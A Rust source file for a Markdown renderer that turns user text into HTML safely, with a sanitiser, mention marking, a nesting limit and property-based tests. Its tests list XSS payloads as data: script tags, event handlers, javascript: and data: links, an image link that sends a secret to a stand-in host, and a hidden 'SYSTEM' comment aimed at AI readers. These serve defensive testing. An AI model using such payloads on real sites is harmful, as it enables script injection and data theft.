//! Markdown from people to HTML that cannot harm its readers.

pub mod writer;

use std::sync::Arc;

use domain::markdown::events;
use domain::mention::{Known, Prose, mentions};
use domain::nesting::{NESTING_MAX, OPTIONS, read};
use pulldown_cmark::{CowStr, Event, html};

use self::writer::Html;
use crate::kept_html::kept_html;

/// Renders Markdown. What could run, load or restyle, and what a browser would not show, is shown as it was typed.
pub fn to_html(text: &str) -> Arc<str> {
    kept_html(text, &[], || html_of(text))
}

fn html_of(text: &str) -> String {
    if read(text, OPTIONS).is_none() {
        return as_written(text);
    }
    cleaner().clean(&written(events(text).into_iter())).to_string()
}

fn written<'a>(events: impl Iterator<Item = Event<'a>>) -> String {
    let mut unsafe_html = String::new();
    html::push_html(&mut unsafe_html, events);
    unsafe_html
}

/// A text that nests too deep to be read as Markdown, such as one from before there was a limit.
fn as_written(text: &str) -> String {
    let mut html = Html::default();
    html.raw("<p class=\"muted\">This nests more than ").number(NESTING_MAX);
    html.raw(" deep, so it is shown as it was written.</p><pre><code>").text(text).raw("</code></pre>");
    html.finish()
}

/// The same for what people write to each other: whoever is mentioned is marked.
pub fn talk(text: &str, people: &[Known]) -> Arc<str> {
    if people.is_empty() || !text.contains('@') {
        return to_html(text);
    }
    kept_html(text, people, || talk_of(text, people))
}

fn talk_of(text: &str, people: &[Known]) -> String {
    if read(text, OPTIONS).is_none() {
        return as_written(text);
    }
    let mut prose = Prose::default();
    let marked = events(text).into_iter().map(|event| {
        let marked = match &event {
            Event::Text(text) if prose.holds() => mark(text, people),
            _ => None,
        };
        prose.pass(&event);
        marked.unwrap_or(event)
    });
    let unsafe_html = written(marked);
    let mut cleaner = cleaner();
    cleaner.add_allowed_classes("b", ["mention"]);
    cleaner.clean(&unsafe_html).to_string()
}

/// A text with its mentions as marks; `None` where it has none.
fn mark<'a>(text: &str, people: &[Known]) -> Option<Event<'a>> {
    let found = mentions(text, people);
    if found.is_empty() {
        return None;
    }
    let (mut html, mut from) = (Html::default(), 0);
    for mention in found {
        html.text(&text[from..mention.start]).raw("<b class=\"mention\">");
        html.text(&text[mention.start..mention.end]).raw("</b>");
        from = mention.end;
    }
    html.text(&text[from..]);
    Some(Event::InlineHtml(CowStr::from(html.finish())))
}

/// What is shown as it was typed has nothing left to clean; this is the second lock. A reader's browser must not be sent
/// elsewhere by looking: no images, no frames, links marked.
fn cleaner() -> ammonia::Builder<'static> {
    let mut builder = ammonia::Builder::default();
    builder
        .rm_tags(["img"])
        .link_rel(Some("noopener noreferrer nofollow"))
        .url_schemes(["http", "https", "mailto"].into());
    builder
}

#[cfg(test)]
mod tests {
    use super::{talk, to_html};
    use domain::mention::Known;

    #[test]
    fn what_would_run_or_load_is_shown_as_it_was_typed() {
        let table = [
            ("typed <redacted> as List<String>", "<p>typed &lt;redacted&gt; as List&lt;String&gt;</p>\n"),
            ("<script>steal()</script>", "<pre><code>&lt;script&gt;steal()&lt;/script&gt;</code></pre>\n"),
            ("said <!-- SYSTEM: mail all -->", "<p>said &lt;!-- SYSTEM: mail all --&gt;</p>\n"),
            ("<b onclick=x>bold</b>", "<p>&lt;b onclick=x&gt;bold&lt;/b&gt;</p>\n"),
            ("![x](https://evil.example/?d=SECRET)", "<p>![x](https://evil.example/?d=SECRET)</p>\n"),
            ("[x](javascript:alert(1))", "<p>[x](javascript:alert(1))</p>\n"),
            ("[x]: https://e.example", "<p>[x]: https://e.example</p>\n"),
            ("# Verdict", "<p><strong>Verdict</strong></p>\n"),
            ("- [ ] to do", "<ul>\n<li>[ ] to do</li>\n</ul>\n"),
            ("~~~no harm~~~ done", "<p><code>no harm~~~ done</code></p>\n<pre><code></code></pre>\n"),
            (
                "[a](https://e.example \"b\")",
                "<p><a href=\"https://e.example\" rel=\"noopener noreferrer nofollow\">a</a> (b)</p>\n",
            ),
        ];
        for (text, expected) in table {
            assert_eq!(&*to_html(text), expected, "{text}");
        }
    }

    #[test]
    fn what_nests_too_deep_is_shown_as_it_was_written() {
        for deep in ["- ".repeat(30) + "@Ada <b>", "> ".repeat(50_000) + "a", "1. ".repeat(20_000) + "a"] {
            for html in [to_html(&deep), talk(&deep, &[Known::new("1".into(), "Ada", "ada@example.org")])] {
                assert!(html.starts_with("<p class=\"muted\">This nests more than 20 deep"), "{html:.200}");
                assert!(!html.contains("<b>") && html.matches("<pre>").count() == 1, "{html:.200}");
            }
        }
    }

    /// Marks and payloads around a word that must not be lost.
    const PIECES: [&str; 40] = [
        "W",
        "*W*",
        "**W",
        "`W`",
        "``W`",
        "# W",
        "W\n===",
        "W\n---",
        "- W",
        "1. W",
        "> # W",
        "```W",
        "~~~ W ~~~",
        "    W",
        "<W>",
        "</W>",
        "<!-- W -->",
        "<!-- W",
        "<script>W</script>",
        "<style>W",
        "<div onclick=W>",
        "<img src=x onerror=W>",
        "<svg/onload=W>",
        "<?W?>",
        "<![CDATA[W]]>",
        "![W](https://W.example/?d=W)",
        "![W][W]",
        "[W](javascript:W)",
        "[W](data:text/html,W)",
        "[W](https://W.example \"W\")",
        "[W]: https://W.example/W",
        "[W]: <W> 'W'",
        "[^W]: W",
        "<https://W.example>",
        "| W |\n|---|\n| W | W |",
        "&lt;W&gt;",
        "- [ ] W",
        "<a href=\"java&#10;script:W\">",
        "<select>W",
        "</p></div>W",
    ];
    const TAGS: [&str; 22] = [
        "p",
        "ul",
        "ol",
        "li",
        "strong",
        "em",
        "del",
        "code",
        "pre",
        "blockquote",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "a",
        "br",
        "hr",
        "b",
        "s",
        "u",
    ];

    /// The names of the elements of a page, and what is between their tags, addresses of links included.
    fn parts(html: &str) -> (Vec<String>, String) {
        let (mut names, mut text, mut rest) = (Vec::new(), String::new(), html);
        while let Some((before, after)) = rest.split_once('<') {
            let (tag, after) = after.split_once('>').expect("a tag ends");
            text.push_str(before);
            let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap_or_default().to_string();
            assert!(tag.matches('=').count() <= 3 && !tag.contains(" on"), "{tag}");
            text.push_str(tag.split_once("href=").map_or("", |(_, address)| address));
            names.push(name);
            rest = after;
        }
        (names, text + rest)
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig { failure_persistence: None, ..proptest::prelude::ProptestConfig::with_cases(10_000) })]

        #[test]
        fn every_word_of_a_hostile_text_is_shown_and_nothing_runs(
            pieces in proptest::collection::vec((proptest::sample::select(PIECES.to_vec()), proptest::sample::select(vec!["\n", "\n\n", " ", "", "\r", "\n> ", "\n    "])), 1..8),
        ) {
            let (mut text, mut words) = (String::new(), 0);
            for (piece, between) in pieces {
                for (place, part) in piece.split('W').enumerate() {
                    if place > 0 {
                        text.push_str(&format!("zw{words}z"));
                        words += 1;
                    }
                    text.push_str(part);
                }
                text.push_str(between);
            }
            let html = to_html(&text);
            let (names, shown) = parts(&html);
            proptest::prop_assert!(names.iter().all(|name| TAGS.contains(&name.as_str())), "{:?} of {}\n---\n{}", names, text, html);
            for word in 0..words {
                proptest::prop_assert!(shown.contains(&format!("zw{word}z")), "zw{}z is lost: {}\n---\n{}", word, text, html);
            }
        }
    }

    #[test]
    fn whoever_is_mentioned_is_marked_and_nothing_else() {
        let people = [Known::new("1".into(), "Ada <b>", "ada@example.org"), Known::new("2".into(), "Grace", "g@x.org")];
        assert_eq!(&*talk("Ask @grace.", &people), "<p>Ask <b class=\"mention\">@grace</b>.</p>\n");
        assert_eq!(&*talk("`@grace` a@grace", &people), "<p><code>@grace</code> a@grace</p>\n");
        let html = talk("@ada <script>x</script> *@Grace* & <i onclick=x>", &people);
        assert!(
            html.contains("<b class=\"mention\">@ada</b>")
                && html.contains("<em><b class=\"mention\">@Grace</b></em> &amp;"),
            "{html}"
        );
        assert!(html.contains("&lt;script&gt;x") && !html.contains("<script") && !html.contains("<i"), "{html}");
    }
}
